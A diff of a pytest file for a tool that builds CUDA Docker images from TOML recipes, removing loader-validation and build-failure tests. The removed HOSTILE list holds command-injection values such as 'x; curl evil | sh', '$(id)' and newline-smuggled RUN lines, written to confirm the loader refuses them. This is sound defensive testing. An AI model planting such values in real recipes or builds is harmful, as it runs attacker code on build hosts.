@@ -9,12 +9,13 @@ from pathlib import Path
 
 import pytest
 
-from envman.errors import MatrixError, UserError
-from envman.matrix.load import load_files, load_matrix, parse_file
+from envman.errors import UserError
+from envman.matrix.load import load_files, load_matrix
 from envman.matrix.validate import validate
 from envman.render.base import BASE_REPOSITORY, base_line, rebuilt_base, render_base
 from envman.render.dockerfile import render_stack, verify_context
 from envman.stack.resolve import resolve, resolve_row
+from tests.unit.matrix.test_recipes import GOOD
 
 ROOT = Path(__file__).resolve().parents[3]
 RECIPES = ROOT / "matrices" / "recipes.toml"
@@ -97,81 +98,6 @@ def test_a_cudnn_recipe_checks_its_download_against_nvidias_sha256(shipped):
     text = rebuilt_base(shipped, ten).dockerfile
     assert "a7e21448181bf69b2f4b9fb3e8c8bdfd962e327b1716d34608488641b4199bb2" in text  # libcudnn7 7.6.5.32 for 10.0
     assert "sha256sum -c --strict" in text and "refusing it" in text
-
-
-# --- the loader: every value that reaches a RUN line must have its shape -------------------------
-
-GOOD = '''schema = 1
-kind = "recipes"
-[[recipe]]
-tag = "10.0-base-ubuntu18.04"
-from = "ubuntu:18.04"
-platform = "linux/amd64"
-path = "dist/end-of-life/10.0/ubuntu18/base/Dockerfile"
-commit = "60a1c892e6b996382e182b4654e0a3f31aeedbee"
-source = ["test"]
-status = "confirmed"
-repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]
-setup_packages = ["gnupg2", "curl", "ca-certificates"]
-key_url = "https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64/3bf863cc.pub"
-key_fingerprint = "EB693B3035CD5710E231E123A4B469963BF863CC"
-env = [["CUDA_VERSION", "10.0.130"], ["PATH", "/usr/local/cuda/bin:${PATH}"]]
-packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]
-downloads = [{ url = "https://example.invalid/x/libnccl2_2.6.4-1+cuda10.0_amd64.deb", sha256 = "f92759e2ab0e36a1c9887f080f7283a774a7c971e352203db4d94d99c44f1028" }]
-symlinks = [["cuda-10.0", "/usr/local/cuda"]]
-ld_so_conf = ["/usr/local/nvidia/lib"]
-'''
-
-
-def _load(tmp_path: Path, text: str):
-    p = tmp_path / "r.toml"
-    p.write_text(text)
-    return parse_file(p)
-
-
-def test_a_well_formed_recipe_loads(tmp_path):
-    kind, (r,) = _load(tmp_path, GOOD)
-    assert kind == "recipes" and r.parent is None and r.downloads[0].file == "libnccl2_2.6.4-1+cuda10.0_amd64.deb"
-
-
-HOSTILE = [
-    ('packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]', 'packages = ["x; curl evil | sh"]'),
-    ('packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]', 'packages = ["$(id)"]'),
-    ('packages = ["cuda-cudart-10-0=10.0.130-1", "cuda-compat-10-0"]', 'packages = ["-o=APT::x"]'),
-    ('setup_packages = ["gnupg2", "curl", "ca-certificates"]', 'setup_packages = ["curl\\nRUN x"]'),
-    ('repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]',
-     'repositories = ["https://x.invalid/a b"]'),
-    ('repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]',
-     'repositories = ["ftp://x.invalid/a"]'),
-    ('repositories = ["https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64"]',
-     "repositories = [\"https://x.invalid/a' /etc\"]"),
-    ('key_fingerprint = "EB693B3035CD5710E231E123A4B469963BF863CC"', 'key_fingerprint = "eb693b3035cd5710e231e123a4b469963bf863cc"'),
-    ('key_fingerprint = "EB693B3035CD5710E231E123A4B469963BF863CC"', 'key_fingerprint = "EB693B30"'),
-    ('["CUDA_VERSION", "10.0.130"]', '["CUDA_VERSION", "$(id)"]'),
-    ('["CUDA_VERSION", "10.0.130"]', '["CUDA_VERSION", "${HOME}"]'),
-    ('["CUDA_VERSION", "10.0.130"]', '["CUDA_VERSION", "a\\nRUN id"]'),
-    ('["CUDA_VERSION", "10.0.130"]', '["CUDA VERSION", "1"]'),
-    ('sha256 = "f92759e2ab0e36a1c9887f080f7283a774a7c971e352203db4d94d99c44f1028"', 'sha256 = "f92759e2"'),
-    ('sha256 = "f92759e2ab0e36a1c9887f080f7283a774a7c971e352203db4d94d99c44f1028"', ''),
-    ('libnccl2_2.6.4-1+cuda10.0_amd64.deb', 'libnccl2.sh'),
-    ('symlinks = [["cuda-10.0", "/usr/local/cuda"]]', 'symlinks = [["cuda-10.0", "relative/link"]]'),
-    ('ld_so_conf = ["/usr/local/nvidia/lib"]', 'ld_so_conf = ["/usr/local/nvidia/lib; id"]'),
-    ('from = "ubuntu:18.04"', 'from = "ubuntu:18.04 AS x"'),
-    ('from = "ubuntu:18.04"', 'parent = "10.0-runtime-ubuntu18.04"\nfrom = "ubuntu:18.04"'),
-    ('from = "ubuntu:18.04"', ''),
-    ('tag = "10.0-base-ubuntu18.04"', 'tag = "10.0-base ubuntu18.04"'),
-    ('commit = "60a1c892e6b996382e182b4654e0a3f31aeedbee"', 'commit = "HEAD"'),
-    ('key_url = "https://developer.download.nvidia.com/compute/cuda/repos/ubuntu1804/x86_64/3bf863cc.pub"', ''),
-    ('status = "confirmed"', 'status = "confirmed"\nshell = "x"'),
-]
-
-
-@pytest.mark.parametrize("old, new", HOSTILE)
-def test_a_recipe_value_of_the_wrong_shape_is_refused_whole(tmp_path, old, new):
-    assert old in GOOD
-    with pytest.raises(MatrixError) as e:
-        _load(tmp_path, GOOD.replace(old, new))
-    assert "recipe[0]" in e.value.what or "recipe" in str(e.value)
 
 
 # --- matrix validate: one rule each ---------------------------------------------------------------
@@ -324,34 +250,3 @@ def test_prune_keeps_a_base_another_user_built():
     base = _row("nvidia/cuda:10.0-base-ubuntu18.04", "b", role="base", uid=2000)
     assert prune_selection([base], PruneScope(uid=1000)) == []
     assert [r.image_id for r in prune_selection([base], PruneScope(uid=1000, all_users=True))] == ["b"]
-
-
-# --- a failed base build: the line that says why ------------------------------------------------
-
-@pytest.mark.parametrize("tail, cause, fix", [
-    ("Step 5/9 : RUN x\n\x1b[91mE: Failed to fetch http://r/x.deb  Hash Sum mismatch\nE: Unable to fetch some archives\n",
-     "E: Failed to fetch http://r/x.deb  Hash Sum mismatch", "do not work around it"),
-    ("#9 1.2 sha256sum: WARNING: 1 computed checksum did NOT match\n#9 1.2 envman: x.deb does not match the sha256 ...\n",
-     "envman: x.deb does not match the sha256 ...", "do not work around it"),
-    ("curl: (60) SSL certificate problem: unable to get local issuer certificate\n",
-     "curl: (60) SSL certificate problem: unable to get local issuer certificate", "--ca-bundle"),
-    ("Setting up ca-certificates ...\nE: Failed to fetch http://r/InRelease  Temporary failure resolving 'r'\n",
-     "E: Failed to fetch http://r/InRelease  Temporary failure resolving 'r'", "could not reach a server"),
-    ("#5 0.9 envman: the key at https://r/3bf863cc.pub has fingerprint ABCD, not NVIDIA's EB69: refusing it\n",
-     "envman: the key at https://r/3bf863cc.pub has fingerprint ABCD, not NVIDIA's EB69: refusing it",
-     "do not work around it"),
-    ("something else entirely\n", "the build failed", "read the log tail"),
-    # the log echoes the RUN line, which names every check: the fix follows the output, not the command
-    ("Step 2/4 : RUN curl -o k.pub U && { [ \"$fpr\" = X ] || { echo \"envman: the key has fingerprint $fpr\"; }; }"
-     " && echo x | sha256sum -c || echo \"does not match the sha256\"\n"
-     "curl: (6) Could not resolve host: developer.download.nvidia.com\n"
-     "The command '/bin/sh -c curl -o k.pub U && ... does not match the sha256' returned a non-zero code: 6\n",
-     "curl: (6) Could not resolve host: developer.download.nvidia.com", "NVIDIA's CUDA apt repository cannot be reached"),
-])
-def test_a_failed_base_build_names_its_cause_and_the_fix_for_it(tail, cause, fix):
-    from envman.errors import BuildError
-    from envman.images.base import failure_cause, failure_fix
-
-    exc = BuildError("the build failed", log_tail=tail)
-    assert failure_cause(exc) == cause
-    assert fix in failure_fix(exc)
